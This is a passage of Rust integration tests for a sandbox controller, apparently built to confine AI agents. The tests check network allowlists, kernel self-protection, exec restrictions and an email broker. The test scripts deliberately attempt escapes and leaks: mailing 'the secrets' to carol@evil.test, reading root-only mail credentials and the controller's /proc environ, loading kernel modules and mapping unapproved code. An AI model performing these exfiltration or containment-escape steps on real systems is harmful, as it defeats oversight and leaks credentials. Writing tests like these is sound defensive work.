    let mut run = run_sleeping(&policy, &audit, &format!("exec {FIXTURE} sleep 30"));
    let starts = read_records(&audit).iter().filter(|r| r["event"] == "controller_start").count();
    wait_for_records(&audit, Duration::from_mins(1), "the second run's start", |r| {
        r.iter().filter(|r| r["event"] == "controller_start").count() > starts
    });
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(i32::try_from(run.id()).expect("pid")),
        nix::sys::signal::Signal::SIGTERM,
    )
    .expect("SIGTERM");
    let status = run.wait().expect("wait");
    assert_eq!(status.code(), Some(128 + libc::SIGTERM), "{status:?}");
    let records = read_records(&audit);
    let stop = records.iter().rev().find(|r| r["event"] == "controller_stop").expect("stop record");
    assert_eq!(stop["detail"]["signal_forwarded"], "SIGTERM", "{stop}");
    assert!(!run_cgroups().iter().any(|p| p.ends_with(format!("run-{}", run.id()))), "cgroup left behind");
}

/// Processes with `name` among their arguments.
fn procs_named(name: &str) -> Vec<u32> {
    std::fs::read_dir("/proc")
        .map(|d| {
            d.flatten()
                .filter_map(|e| e.file_name().to_str()?.parse::<u32>().ok())
                .filter(|pid| {
                    std::fs::read(format!("/proc/{pid}/cmdline"))
                        .is_ok_and(|c| c.split(|&b| b == 0).any(|arg| arg == name.as_bytes()))
                })
                .collect()
        })
        .unwrap_or_default()
}

/// `ADDR outcome` lines of `fixture connect A B …`.
fn outcomes(text: &str) -> Vec<(String, String)> {
    text.lines().filter_map(|l| l.split_once(' ').map(|(a, o)| (a.to_string(), o.to_string()))).collect()
}

#[test]
fn a_launch_profiles_network_policy_is_the_kernel_allowlist_of_its_own_cgroup() {
    let listeners: Vec<std::net::TcpListener> =
        (0..3).map(|_| std::net::TcpListener::bind("127.0.0.1:0").expect("listener")).collect();
    let addrs: Vec<String> = listeners.iter().map(|l| l.local_addr().expect("addr").to_string()).collect();
    let port = |i: usize| addrs[i].rsplit_once(':').expect("port").1.to_string();
    // The section allows the first address; `netp` the second (a child inherits it); `loopall` every
    // loopback destination; the upstream resolver is loopback (no query leaves this machine).
    let sections = format!(
        "network:\n  loopback: false\n  dns: {{ upstream: [\"127.0.0.1:9\"] }}\n  allow:\n    - {{ id: section_a, cidr: 127.0.0.1/32, ports: [{}] }}\n",
        port(0)
    );
    let profiles = format!(
        "  netp:\n    extends: gateway\n    network_policy: {{ allow_loopback: false, allow_outbound: [\"127.0.0.1:{}\", \"*.example.test:443\"] }}\n  netchild:\n    extends: netp\n  loopall:\n    extends: gateway\n    network_policy: {{ allow_loopback: true, allow_outbound: [] }}\n",
        port(1)
    );
    let s = Scene::start_with("launch-net", "  user: \"65534\"", &sections, &profiles);
    let check = s.daemon.run(&["policy", "check", s.dir.path().join("policy.yaml").to_str().expect("utf-8")]);
    assert!(stdout(&check).contains("launch profile netp:"), "{}", stdout(&check));

    let mut args = vec!["connect"];
    args.extend(addrs.iter().map(String::as_str));
    let expect = [
        ("gateway", ["connected", "connect-errno=1", "connect-errno=1"]),
        ("netp", ["connect-errno=1", "connected", "connect-errno=1"]),
        ("netchild", ["connect-errno=1", "connected", "connect-errno=1"]),
        ("loopall", ["connected", "connected", "connected"]),
    ];
    for (profile, wanted) in expect {
        let out = s.launch(&["--seccomp-profile", profile], &args);
        assert!(out.status.success(), "{profile}: {out:?}");
        let got = outcomes(&stdout(&out));
        let wanted: Vec<(String, String)> =
            addrs.iter().zip(wanted).map(|(a, o)| (a.clone(), o.to_string())).collect();
        assert_eq!(got, wanted, "{profile}: {}", String::from_utf8_lossy(&out.stderr));
    }

    // Each launch had a cgroup of its own, governed with its profile and forgotten once removed; each
    // denial is in the log with the launch cgroup's id.
    let records = s.wait_for("the launch cgroups' records", |r| {
        r.iter().filter(|r| r["event"] == "launch_released").count() >= 4
    });
    let governed: Vec<&Value> = records.iter().filter(|r| r["event"] == "launch_governed").collect();
    assert_eq!(governed.len(), 4, "{governed:?}");
    let profiles: Vec<&Value> = governed.iter().map(|r| &r["detail"]["network_profile"]).collect();
    assert_eq!(
        profiles,
        [&Value::Null, &Value::from("netp"), &Value::from("netchild"), &Value::from("loopall")]
    );
    let netp_id = &governed[1]["detail"]["cgroup_id"];
    let denied: Vec<&Value> = records
        .iter()
        .filter(|r| r["layer"] == "kernel" && r["decision"] == "denied" && r["port"].is_u64())
        .collect();
    assert!(
        denied.iter().any(|r| r["cgroup_id"] == *netp_id && r["port"].as_u64().map(|p| p.to_string()) == Some(port(0))),
        "netp's denial of the section's address: {denied:?}"
    );
    for record in governed {
        let path = record["detail"]["cgroup"].as_str().expect("cgroup path");
        assert!(!Path::new(path).exists(), "{path} was removed");
    }
    let status = s.daemon.status();
    let ids = status["governed_ids_in_kernel"].as_array().expect("ids").len();
    assert_eq!(ids, status["governed_cgroups"].as_array().expect("groups").len(), "{status}");

    // A reload that drops the profile a running agent was launched with: its network is closed.
    let flag = s.dir.path().join("go");
    let script = format!(
        "while [ ! -e {} ]; do sleep 0.05; done; exec {} connect {} {}",
        flag.display(),
        s.fixture(),
        addrs[0],
        addrs[1]
    );
    let mut cmd = s.daemon.ctl();
    cmd.arg("launch").args([
        "--seccomp-profile",
        "netp",
        "--",
        &s.fixture(),
        "spawn",
        "/bin/sh",
        "-c",
        &script,
    ]);
    let agent = cmd.stdout(std::process::Stdio::piped()).spawn().expect("launch");
    s.wait_for("the running launch", |r| r.iter().filter(|r| r["event"] == "launch_governed").count() >= 5);
    let text = std::fs::read_to_string(s.dir.path().join("policy.yaml")).expect("policy");
    let without = text.split("  netp:").next().expect("before netp").to_string();
    let reduced = s.write("reduced.yaml", &without);
    let out = s.daemon.run(&["policy", "reload", reduced.to_str().expect("utf-8")]);
    assert!(out.status.success(), "{out:?}");
    std::fs::write(&flag, b"").expect("flag");
    let out = agent.wait_with_output().expect("agent");
    let got = outcomes(&stdout(&out));
    let closed: Vec<(String, String)> =
        addrs[..2].iter().map(|a| (a.clone(), "connect-errno=1".to_string())).collect();
    assert_eq!(got, closed, "{}", String::from_utf8_lossy(&out.stderr));
    s.wait_for("denials for the dropped profile", |r| {
        r.iter().filter(|r| r["rule_id"] == "unknown_profile").count() >= 2
    });
}

/// `sentra-ctl run` of `fixture sys CALLS…` as root (no launcher, no seccomp), with its policy and log
/// at known paths; the fixture's output and the run's records.
fn run_calls(dir: &Path, policy: &Path, audit: &Path, calls: &[String]) -> (String, Vec<Value>) {
    let command: Vec<&str> = [FIXTURE, "sys"].into_iter().chain(calls.iter().map(String::as_str)).collect();
    let out = sentra_tests::run_command(policy, audit, &command).current_dir(dir).output().expect("run");
    assert!(out.status.success(), "{out:?}");
    (stdout(&out), read_records(audit))
}

/// The `lsm` backend's self-protection, against a governed root task with every capability (no
/// launcher, no seccomp): each way to reach the kernel or Sentra fails with `EPERM` and leaves a
/// `guard` record, while the same operations on an ordinary file succeed. On the `signal` backend the
/// LSM hooks do not exist: only sysctl writes are refused (a cgroup program), and nothing else is
/// recorded as a guard; calls that would change the host if allowed are made on `lsm` only.
#[test]
fn a_governed_root_task_cannot_reach_the_kernel_or_sentra() {
    let dir = tempfile::Builder::new().prefix("sentra-guard-").tempdir_in("/tmp").expect("dir");
    let policy = dir.path().join("p.yaml");
    std::fs::write(&policy, "version: \"2.0\"\ndefault: allow\nexec:\n  default: allow\n").expect("write");
    std::fs::set_permissions(&policy, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let audit = dir.path().join("audit.jsonl");
    let scratch = dir.path().join("scratch");
    std::fs::write(&scratch, "x").expect("scratch");
    let cgroup_procs = sentra_ctl::cgroup::cgroup2_root().expect("cgroup2").join("cgroup.procs");
    let file = |call: &str, path: &Path| format!("{call}:{}", path.display());
    // Harmless whether refused or not: nothing is written, loaded or sent that changes the host.
    let mut calls: Vec<String> = [
        "bpf",
        "init_module",
        "finit_module",
        "reboot",
        "raw-socket",
        "packet-socket",
        "ping-socket",
        "kill-parent",
        "parent-mem",
        "sysctl-write",
        "own-cgroup",
    ]
    .map(String::from)
    .to_vec();
    calls.extend([
        file("open-write", &cgroup_procs),
        file("open-write", Path::new("/proc/sysrq-trigger")),
        file("open-write", &policy),
        file("open-write", &audit),
        file("open-write", &scratch),
    ]);
    let (text, records) = run_calls(dir.path(), &policy, &audit, &calls);
    let results: std::collections::BTreeMap<String, i64> = errnos(&text).into_iter().collect();
    assert_eq!(results.len(), calls.len(), "{text}");
    let start = records.iter().find(|r| r["event"] == "controller_start").expect("start record");
    let guards = |records: &[Value]| -> Vec<Value> {
        records.iter().filter(|r| r["event"] == "guard").cloned().collect()
    };
    let eperm = i64::from(libc::EPERM);
    assert_eq!(results["sysctl-write"], eperm, "sysctl writes are refused on every backend: {text}");
    assert_eq!(results[&file("open-write", &scratch)], 0, "{text}");
    assert_eq!(results["own-cgroup"], 0, "its own cgroup is its to manage: {text}");
    if start["backend"] != "lsm" {
        let found = guards(&records);
        assert!(found.iter().all(|r| r["action"] == "sysctl"), "only the sysctl guard runs here: {found:?}");
        assert!(found.iter().any(|r| r["detail"]["file"] == "domainname"), "{found:?}");
        return;
    }
    for (call, errno) in &results {
        // /proc/PID/mem turns any refused access check into EACCES (fs/proc/base.c `proc_mem_open`
        // through kernel/fork.c `mm_access`); the ptrace record below shows it was the guard's.
        let expected = match call.as_str() {
            "parent-mem" => i64::from(libc::EACCES),
            "own-cgroup" => 0,
            _ if *call == file("open-write", &scratch) => 0,
            _ => eperm,
        };
        assert_eq!(*errno, expected, "{call}: {text}");
    }
    let found = guards(&records);
    for action in ["bpf", "capability", "socket", "signal", "ptrace", "sysctl", "file_write"] {
        assert!(found.iter().any(|r| r["action"] == action), "no {action} record: {found:?}");
    }
    assert!(found.iter().all(|r| r["rule_id"] == "self_protection" && r["decision"] == "denied"));
    assert!(
        found.iter().any(|r| r["action"] == "file_write" && r["detail"]["file"] == "cgroup.procs"),
        "{found:?}"
    );
    assert!(found.iter().any(|r| r["action"] == "file_write" && r["detail"]["file"] == "audit.jsonl"));
    assert!(found.iter().any(|r| r["action"] == "signal" && r["detail"]["target_pid"].as_u64().is_some()));

    // Calls that would change the host were they allowed: made only where they are refused.
    let ctl = sentra_ctl();
    let calls = vec![
        "kexec_load".to_string(),
        file("unlink", &policy),
        file("rename", &audit),
        // (Opening a running program for writing fails with ETXTBSY before any LSM hook.)
        file("unlink", &ctl),
        file("rename", &scratch),
    ];
    let (text, records) = run_calls(dir.path(), &policy, &audit, &calls);
    for (call, errno) in errnos(&text) {
        let expected = if call == file("rename", &scratch) { 0 } else { eperm };
        assert_eq!(errno, expected, "{call}: {text}");
    }
    assert!(policy.exists() && audit.exists() && ctl.exists(), "a protected file went away");
    let found = guards(&records);
    for action in ["unlink", "rename", "capability"] {
        assert!(found.iter().any(|r| r["action"] == action), "no {action} record: {found:?}");
    }
}

/// Trusted execution on the `lsm` backend, against a governed root task under a default-deny exec
/// policy that allows one directory: nothing that may run can be changed there (create, write,
/// truncate, link, symlink, rename, mkdir, chmod, unlink), no mount anywhere, and no executable
/// mapping of a file neither the exec rules nor the default `exec.libraries` allow (`mmap`,
/// `mprotect`, `dlopen` of a copied library, the dynamic loader mapping a denied program); each with a
/// record naming the file. The system's own libraries and the allowed programs still map, ordinary
/// files stay writable. In audit mode the same change is recorded and goes through. On the `signal`
/// backend none of these hooks exist: the same calls succeed (the README says so).
#[test]
#[expect(
    clippy::too_many_lines,
    reason = "one scene: the escape attempts, their records, the loader, audit mode"
)]
fn a_governed_root_task_cannot_run_code_around_the_exec_rules() {
    let dir = tempfile::Builder::new().prefix("sentra-wx-").tempdir_in("/tmp").expect("dir");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let allowed = dir.path().join("allowed");
    let plain = dir.path().join("plain");
    std::fs::create_dir_all(&allowed).expect("allowed");
    std::fs::create_dir_all(&plain).expect("plain");
    let fixture = allowed.join("fixture");
    install(Path::new(FIXTURE), &fixture);
    let victim = allowed.join("victim");
    install(Path::new(FIXTURE), &victim);
    let libc_path = libc_in_this_process();
    let copied = plain.join("x.so");
    std::fs::copy(&libc_path, &copied).expect("copy libc");
    let loader = ["/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1"]
        .into_iter()
        .find(|p| Path::new(p).exists())
        .expect("the dynamic loader");
    let scratch = plain.join("scratch");
    std::fs::write(&scratch, "x").expect("scratch");
    let audit = dir.path().join("audit.jsonl");
    let loader_rule = format!("    - {{ id: loader, path: {loader} }}\n");
    let write_policy = |mode: &str| agent_dir_policy(dir.path(), mode, &allowed, &loader_rule);
    let run = |policy: &Path, args: &[&str]| -> (String, Vec<Value>) {
        let _ = std::fs::remove_file(&audit);
        let mut command: Vec<&str> = vec![fixture.to_str().expect("utf-8")];
        command.extend(args);
        let out = sentra_tests::run_command(policy, &audit, &command)
            .current_dir(dir.path())
            .output()
            .expect("run");
        assert!(out.status.success(), "{out:?}");
        (stdout(&out), read_records(&audit))
    };
    let at = |call: &str, path: &Path| format!("{call}:{}", path.display());
    let two = |call: &str, from: &Path, to: &Path| format!("{call}:{},{}", from.display(), to.display());
    let refused: Vec<String> = vec![
        // Mappings first: `rename-to` below moves `scratch` away where it is allowed.
        at("mmap-exec", &scratch),
        at("mprotect-exec", &scratch),
        at("dlopen", &copied),
        at("create", &allowed.join("new")),
        at("open-write", &victim),
        at("truncate-path", &victim),
        at("chmod", &victim),
        at("mkdir", &allowed.join("sub")),
        two("link", &scratch, &allowed.join("linked")),
        two("symlink", &scratch, &allowed.join("symlinked")),
        two("rename-to", &scratch, &allowed.join("moved")),
        at("unlink", &victim),
        at("mount-tmpfs", &allowed),
        at("mount-tmpfs", &plain),
    ];
    let fine: Vec<String> = vec![
        at("create", &plain.join("new")),
        at("open-write", &scratch),
        at("mmap-exec", Path::new(&libc_path)),
        at("mmap-exec", &victim),
    ];
    let enforce = write_policy("enforce");
    // Mounts would change the host were they allowed: made only where they are refused, below.
    let (mounts, refused): (Vec<String>, Vec<String>) =
        refused.into_iter().partition(|c| c.starts_with("mount-tmpfs"));
    // The allowed calls first: on the `signal` backend the others succeed too (`unlink` of `victim`).
    let calls: Vec<&str> =
        std::iter::once("sys").chain(fine.iter().chain(&refused).map(String::as_str)).collect();
    let (text, records) = run(&enforce, &calls);
    let results: std::collections::BTreeMap<String, i64> = errnos(&text).into_iter().collect();
    assert_eq!(results.len(), refused.len() + fine.len(), "{text}");
    let start = records.iter().find(|r| r["event"] == "controller_start").expect("start record");
    if start["backend"] != "lsm" {
        for (call, errno) in &results {
            assert_eq!(*errno, 0, "{call}: no LSM hooks on this backend: {text}");
        }
        assert!(!records.iter().any(|r| r["event"] == "guard" && r["action"] != "sysctl"), "{records:?}");
        return;
    }
    for call in &refused {
        assert_eq!(results[call], i64::from(libc::EPERM), "{call}: {text}");
    }
    for call in &fine {
        assert_eq!(results[call], 0, "{call}: {text}");
    }
    assert!(victim.exists() && !allowed.join("new").exists() && scratch.exists());
    let guards: Vec<&Value> = records.iter().filter(|r| r["event"] == "guard").collect();
    for operand in
        ["create", "open_for_write", "truncate", "chmod", "mkdir", "link", "symlink", "rename_to", "unlink"]
    {
        assert!(
            guards.iter().any(|r| r["action"] == "exec_write"
                && r["detail"]["operand"] == operand
                && r["rule_id"] == "agent_dir"
                && r["decision"] == "denied"),
            "no exec_write {operand} record: {guards:?}"
        );
    }
    for file in ["scratch", "x.so"] {
        assert!(
            guards.iter().any(|r| r["action"] == "exec_map"
                && r["detail"]["file"] == file
                && r["rule_id"] == "default"),
            "no exec_map record for {file}: {guards:?}"
        );
    }
    let calls: Vec<&str> = std::iter::once("sys").chain(mounts.iter().map(String::as_str)).collect();
    let (text, records) = run(&enforce, &calls);
    for (call, errno) in errnos(&text) {
        assert_eq!(errno, i64::from(libc::EPERM), "{call}: {text}");
    }
    assert!(
        records.iter().any(|r| r["action"] == "mount" && r["rule_id"] == "self_protection"),
        "{records:?}"
    );

    // The dynamic loader, itself allowed, may not map a program the policy does not allow.
    let denied = plain.join("denied");
    install(Path::new(FIXTURE), &denied);
    let _ = std::fs::remove_file(&audit);
    let program =
        [fixture.to_str().expect("utf-8"), "spawn", loader, denied.to_str().expect("utf-8"), "hello"];
    let out = sentra_tests::run_command(&enforce, &audit, &program).output().expect("run");
    let (text, records) = (stdout(&out), read_records(&audit));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(text.trim(), "exit=127", "{text} {stderr}");
    assert!(
        records.iter().any(|r| r["action"] == "exec_map" && r["detail"]["file"] == "denied"),
        "{stderr} {records:?}"
    );

    // Audit mode: recorded as would-be refusals, done.
    let audit_policy = write_policy("audit");
    let created = allowed.join("audited");
    let (text, records) = run(&audit_policy, &["sys", &at("create", &created)]);
    assert_eq!(errnos(&text), [(at("create", &created), 0)], "{text}");
    assert!(
        records
            .iter()
            .any(|r| r["action"] == "exec_write" && r["decision"] == "auditonly" && r["mode"] == "audit"),
        "{records:?}"
    );
}

/// The himalaya the broker sends through: `$SENTRA_HIMALAYA`, else the one `scripts/setup.sh` builds.
fn himalaya() -> std::path::PathBuf {
    let path = std::env::var_os("SENTRA_HIMALAYA").map_or_else(
        || {
            let cache = std::env::var("SENTRA_CACHE").unwrap_or_else(|_| "/var/cache/sentra-dev".into());
            Path::new(&cache).join("himalaya/bin/himalaya")
        },
        std::path::PathBuf::from,
    );
    assert!(path.exists(), "himalaya not found at {} (scripts/setup.sh builds it)", path.display());
    path
}

#[test]
fn email_is_sent_by_the_controller_under_the_policy_with_credentials_the_agent_cannot_read() {
    use sentra_tests::smtp_sink::SmtpSink;
    const PASSWORD: &str = "s3cret-mail-PASSWORD";
    let sink = SmtpSink::start();
    // The mail account, as the installer writes it: root's alone, in a directory only root enters.
    let creds = tempfile::Builder::new().prefix("sentra-mail-").tempdir_in("/tmp").expect("tempdir");
    std::fs::set_permissions(creds.path(), std::fs::Permissions::from_mode(0o700)).expect("chmod");
    let config = creds.path().join("himalaya.toml");
    std::fs::write(
        &config,
        format!(
            "[accounts.test]\ndefault = true\nemail = \"agent@sentra.test\"\nsmtp.server = \"smtp://{}\"\nsmtp.sasl.plain.username = \"agent@sentra.test\"\nsmtp.sasl.plain.password.raw = \"{PASSWORD}\"\n",
            sink.addr
        ),
    )
    .expect("write the account");
    std::fs::set_permissions(&config, std::fs::Permissions::from_mode(0o600)).expect("chmod");
    let sections = format!(
        "email:\n  from: agent@sentra.test\n  recipients: [\"*@allowed.test\"]\n  per_hour: 2\n  config: {}\n  himalaya: {}\n",
        config.display(),
        himalaya().display()
    );
    let s = Scene::start_with("email", "  user: \"65534\"", &sections, "");
    let email_bin = sentra_ctl().with_file_name("sentra-email");
    for name in ["email", "send-email"] {
        std::os::unix::fs::symlink(&email_bin, s.dir.path().join("bin").join(name)).expect("symlink");
    }
    let bin = s.dir.path().join("bin");
    let controller = s.daemon.child.as_ref().map(std::process::Child::id).expect("controller pid");
    let script = format!(
        "B={bin}; \
         $B/email bob@allowed.test 'Hello' 'Body one'; echo rc1=$?; \
         $B/send-email carol@evil.test 'Leak' 'the secrets'; echo rc2=$?; \
         $B/email --to dave@allowed.test --subject 'Two' --body 'Body two'; echo rc3=$?; \
         $B/email erin@allowed.test 'Three' 'over the cap'; echo rc4=$?; \
         cat {config}; echo cat=$?; \
         cat /proc/{controller}/environ; echo environ=$?",
        bin = bin.display(),
        config = config.display(),
    );
    let out = s.launch(&[], &["spawn", "/bin/sh", "-c", &format!("{{ {script}; }} 2>&1")]);
    let text = stdout(&out);
    assert!(text.contains("Email sent to bob@allowed.test\nrc1=0"), "{out:?}");
    assert!(text.contains("[X] DENIED: email to carol@evil.test\n    Rule: email.recipients\n"), "{out:?}");
    assert!(text.contains("rc2=1") && text.contains("rc3=0"), "{out:?}");
    assert!(text.contains("Rule: email.per_hour") && text.contains("rc4=1"), "{out:?}");
    assert!(
        !text.contains("cat=0") && !text.contains("environ=0"),
        "the agent read the broker's secrets: {out:?}"
    );
    assert!(!text.contains(PASSWORD), "{out:?}");

    let mails = sink.wait_for(2, Duration::from_secs(5));
    assert_eq!(mails.len(), 2, "{mails:?}");
    assert_eq!(
        mails[0].auth,
        Some(("agent@sentra.test".into(), PASSWORD.into())),
        "the broker authenticated"
    );
    assert_eq!(mails[0].mail_from, "agent@sentra.test");
    assert_eq!(mails[0].rcpt_to, ["bob@allowed.test"]);
    assert!(mails[0].data.contains("Subject: Hello") && mails[0].data.contains("Body one"), "{mails:?}");
    assert_eq!(mails[1].rcpt_to, ["dave@allowed.test"]);

    let records =
        s.wait_for("four e-mail records", |r| r.iter().filter(|r| r["event"] == "email").count() >= 4);
    let email: Vec<&Value> = records.iter().filter(|r| r["event"] == "email").collect();
    let sent: Vec<&&Value> = email.iter().filter(|r| r["decision"] == "allowed").collect();
    assert_eq!(sent.len(), 2, "{email:?}");
    assert!(
        sent.iter().all(|r| r["detail"]["delivered"] == true && r["rule_id"] == "email.recipients[0]"),
        "{sent:?}"
    );
    assert_eq!(sent[0]["detail"]["to"], serde_json::json!(["bob@allowed.test"]));
    assert_eq!(sent[0]["detail"]["subject"], "Hello");
    assert!(sent[0]["detail"]["bytes"].as_u64().is_some_and(|b| b > 0), "{sent:?}");
    let denied: Vec<&str> =
        email.iter().filter(|r| r["decision"] == "denied").filter_map(|r| r["rule_id"].as_str()).collect();
    assert_eq!(denied, ["email.recipients", "email.per_hour"], "{email:?}");
    assert!(email.iter().all(|r| r["reported_by"]["uid"] == 65534), "{email:?}");
}

/// Audit mode, learn, enforce: what an agent ran under a default-deny policy in audit mode is
/// allowed by the learned policy, so the same run is refused nothing when enforced — except the
/// program an explicit deny named, which stays denied.
#[test]
fn a_policy_learned_in_audit_mode_runs_the_same_session_enforced() {
    let dir = tempfile::Builder::new().prefix("sentra-learn-").tempdir_in("/tmp").expect("tempdir");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    for name in ["tool", "helper", "denied"] {
        install(Path::new(FIXTURE), &dir.path().join("bin").join(name));
    }
    let bin = dir.path().join("bin");
    let policy = dir.path().join("policy.yaml");
    let base = format!(
        "version: \"2.0\"\nmode: audit\ndefault: allow\n# The exec layer: nothing runs unless allowed.\nexec:\n  default: deny\n  allow:\n    - {{ id: fixture_itself, path: {fixture} }}\n  deny:\n    - {{ id: no_denied, path: {bin}/denied }}\ngoverned:\n  user: \"65534\"\n",
        fixture = std::fs::canonicalize(FIXTURE).expect("fixture").display(),
        bin = bin.display(),
    );
    std::fs::write(&policy, &base).expect("policy");
    std::fs::set_permissions(&policy, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let mut daemon = TestDaemon::new("learn", dir.path(), None);
    daemon.start(&policy);
    let script = format!(
        "{bin}/tool exit 0; {bin}/helper exit 0; {bin}/denied exit 0; echo done",
        bin = bin.display()
    );
    let session = |daemon: &TestDaemon| {
        let mut cmd = daemon.launch_cmd(&["--", FIXTURE, "spawn", "/bin/sh", "-c", &script]);
        cmd.output().expect("launch")
    };
    let out = session(&daemon);
    assert!(String::from_utf8_lossy(&out.stdout).contains("done"), "audit mode runs everything: {out:?}");
    wait_for_records(&daemon.audit(), Duration::from_secs(10), "the audited execs", |r| {
        r.iter().any(|r| r["executable"].as_str().is_some_and(|e| e.ends_with("/bin/denied")))
    });

    let out = daemon
        .ctl()
        .args(["policy", "learn", "--from"])
        .arg(daemon.audit())
        .arg("--base")
        .arg(&policy)
        .output()
        .expect("policy learn");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(out.status.success(), "policy learn: {out:?}");
    assert!(
        text.contains("# The exec layer: nothing runs unless allowed."),
        "the base's comments are kept: {text}"
    );
    assert!(text.contains(&format!("path: {}/tool", bin.display())), "{text}");
    assert!(text.contains(&format!("path: {}/helper", bin.display())), "{text}");
    assert!(text.contains("# learned: seen"), "{text}");
    assert_eq!(text.matches("/bin/denied").count(), 1, "an explicit deny is not learned: {text}");
    assert!(text.contains("id: no_denied"), "the base's deny is kept: {text}");

    // Enforce what was learned: the same session is refused nothing but the denied program.
    let enforced = dir.path().join("learned.yaml");
    std::fs::write(&enforced, text.replace("mode: audit", "mode: enforce")).expect("write");
    std::fs::set_permissions(&enforced, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let check = daemon.run(&["policy", "check", enforced.to_str().expect("utf-8")]);
    assert!(check.status.success(), "policy check passes on the output: {check:?}");
    let reload = daemon.run(&["policy", "reload", enforced.to_str().expect("utf-8")]);
    assert!(reload.status.success(), "reload: {reload:?}");
    let before = read_records(&daemon.audit()).len();
    let out = session(&daemon);
    assert!(String::from_utf8_lossy(&out.stdout).contains("done"), "{out:?}");
    let records =
        wait_for_records(&daemon.audit(), Duration::from_secs(10), "the enforced run's execs", |r| {
            r[before.min(r.len())..]
                .iter()
                .any(|r| r["executable"].as_str().is_some_and(|e| e.ends_with("/bin/denied")))
        });
    let refused: Vec<&Value> =
        records[before..].iter().filter(|r| r["event"] == "exec" && r["decision"] == "denied").collect();
    assert!(
        refused.iter().all(|r| r["rule_id"] == "no_denied"),
        "only the explicitly denied program is refused: {refused:?}"
    );
    assert_eq!(refused.len(), 1, "{refused:?}");
}

/// `pending` then `allow ID --for …`: the narrowest entry is added to the enforced policy, enforced
/// at once, recorded with who approved it, and lapses by itself; an explicit deny is not approvable.
#[test]
fn an_approved_refusal_is_allowed_at_once_and_lapses_by_itself() {
    let dir = tempfile::Builder::new().prefix("sentra-allow-").tempdir_in("/tmp").expect("tempdir");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let bin = dir.path().join("bin");
    for name in ["tool", "denied"] {
        install(Path::new(FIXTURE), &bin.join(name));
    }
    let policy = dir.path().join("policy.yaml");
    std::fs::write(
        &policy,
        format!(
            "version: \"2.0\"\nmode: enforce\ndefault: allow\nexec:\n  default: deny\n  allow:\n    - {{ id: fixture_itself, path: {fixture} }}\n  deny:\n    - {{ id: no_denied, path: {bin}/denied }}\ngoverned:\n  user: \"65534\"\n",
            fixture = std::fs::canonicalize(FIXTURE).expect("fixture").display(),
            bin = bin.display(),
        ),
    )
    .expect("policy");
    std::fs::set_permissions(&policy, std::fs::Permissions::from_mode(0o644)).expect("chmod");
    let mut daemon = TestDaemon::new("allow", dir.path(), None);
    daemon.start(&policy);
    let tool = bin.join("tool").display().to_string();
    let run = |daemon: &TestDaemon, program: &str| {
        let out = daemon.launch(&["--", FIXTURE, "spawn", program, "exit", "0"]);
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    assert!(!run(&daemon, &tool).contains("exit=0"), "denied by default first");
    assert!(!run(&daemon, &bin.join("denied").display().to_string()).contains("exit=0"));
    let records = wait_for_records(&daemon.audit(), Duration::from_secs(10), "both refusals", |r| {
        r.iter().filter(|r| r["event"] == "exec" && r["decision"] == "denied").count() >= 2
    });
    let _ = records;
    let pending = daemon.run(&["pending", "--json", "--file", daemon.audit().to_str().expect("utf-8")]);
    let groups: Vec<Value> = String::from_utf8_lossy(&pending.stdout)
        .lines()
        .filter_map(|l| serde_json::from_str(l).ok())
        .collect();
    let id_of = |suffix: &str| -> String {
        groups
            .iter()
            .find(|g| g["what"].as_str().is_some_and(|w| w.ends_with(suffix)))
            .and_then(|g| g["id"].as_str())
            .unwrap_or_else(|| panic!("a pending refusal of {suffix}: {groups:?}"))
            .to_string()
    };
    let audit = daemon.audit().display().to_string();

    let explicit = daemon.run(&["allow", &id_of("/bin/denied"), "--file", &audit]);
    assert!(!explicit.status.success(), "{explicit:?}");
    assert!(String::from_utf8_lossy(&explicit.stderr).contains("not by a default"), "{explicit:?}");

    let out = daemon.run(&["allow", &id_of("/bin/tool"), "--for", "8s", "--file", &audit]);
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(out.status.success(), "{out:?}");
    assert!(
        said.contains(&format!("path: {tool}")) && said.contains("expires:"),
        "the diff is shown: {said}"
    );
    let approved_at = Instant::now();
    let text = std::fs::read_to_string(&policy).expect("policy");
    assert!(text.contains("# approved by") && text.contains("id: no_denied"), "{text}");
    assert!(run(&daemon, &tool).contains("exit=0"), "allowed at once");
    let records = wait_for_records(&daemon.audit(), Duration::from_secs(10), "the approval", |r| {
        r.iter().any(|r| r["event"] == "approval")
    });
    let approval = records.iter().find(|r| r["event"] == "approval").expect("approval");
    assert_eq!(approval["detail"]["what"], tool.as_str(), "{approval}");
    assert!(approval["detail"]["approved_by"].as_str().is_some_and(|w| !w.is_empty()), "{approval}");

    // It lapses by itself: the controller reloads when it expires.
    std::thread::sleep(Duration::from_secs(10).saturating_sub(approved_at.elapsed()));
    let deadline = Instant::now() + Duration::from_secs(10);
    while run(&daemon, &tool).contains("exit=0") {
        assert!(Instant::now() < deadline, "the temporary allow never lapsed");
        std::thread::sleep(Duration::from_millis(500));
    }
}

/// The dynamic loader's variables on the `signal` backend: a program whose `LD_PRELOAD`, `LD_AUDIT`,
/// `LD_LIBRARY_PATH` or `GCONV_PATH` names code outside `exec.libraries` (a file the agent wrote, a
/// relative path, an empty search-path entry, `..`, `$ORIGIN`) is killed before its first instruction,
/// with a `loader_env` record naming the variable, the fault and the entry; the system's libraries,
/// bare library names and ordinary variables run. Found after a long variable too (the environment is
/// read in pieces). In audit mode the same program runs and the refusal is recorded. On the `lsm`
/// backend the mapping itself is refused (`exec_map`, in the test above) and nothing is killed.
/// A program's environment, and the refusal expected: variable, fault, entry.
type LoaderCase = (Vec<String>, Option<(&'static str, &'static str, String)>);

#[test]
fn the_dynamic_loader_cannot_be_pointed_at_code_outside_the_libraries() {
    let dir = tempfile::Builder::new().prefix("sentra-ldenv-").tempdir_in("/tmp").expect("dir");
    std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o755)).expect("chmod");
    let allowed = dir.path().join("allowed");
    let plain = dir.path().join("plain");
